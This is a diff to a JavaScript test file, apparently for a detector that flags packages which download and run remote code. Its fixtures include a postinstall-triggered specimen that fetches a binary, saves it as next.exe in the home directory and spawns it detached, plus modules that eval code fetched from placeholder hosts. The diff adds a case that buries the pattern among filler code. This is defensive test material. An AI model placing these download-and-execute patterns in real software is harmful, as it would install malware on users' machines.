@@ -5,6 +5,9 @@ const hook = { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node
 
 const UPDATES = `const fs = require('fs'), path = require('path'), os = require('os'), { spawn } = require('child_process'); exports.Updates = class { constructor(at, codes) { this.at = at; this.codes = codes; } async install() { const file = path.join(os.homedir(), '.a', 'next.exe'); fs.writeFileSync(file, Buffer.from(await (await fetch(ADDRESS)).arrayBuffer())); spawn(file, [], { detached: true, stdio: 'ignore' }).unref(); } };`;
 
+/** Code of a large package. */
+const MUCH_ELSE = `exports.words = ${JSON.stringify('word '.repeat(10_000))}`;
+
 examine(runsDownloadedCode, {
   speaks: [
     {
@@ -78,6 +81,7 @@ examine(runsDownloadedCode, {
         'src/fetch.js': `exports.load = url => fetch(url).then(r => r.text())`,
         'src/run.js': `const { load } = require('./fetch'); exports.run = async url => eval(await load(url))`,
         'src/fetch.test.js': `require('./run').run('https://example.invalid')`,
+        'src/others.js': MUCH_ELSE,
       },
       weight: 'weak',
     },
@@ -86,6 +90,15 @@ examine(runsDownloadedCode, {
       files: {
         'index.js': `const { load } = require('./fetch'); exports.run = async () => eval(await load())`,
         'fetch.js': `exports.load = () => fetch('https://files.invalid/x').then(r => r.text())`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'it goes there in a package with much other code',
+      files: {
+        'index.js': `const { load } = require('./fetch'); exports.run = async () => eval(await load())`,
+        'fetch.js': `exports.load = () => fetch('https://files.invalid/x').then(r => r.text())`,
+        'others.js': MUCH_ELSE,
       },
       weight: 'weak',
     },
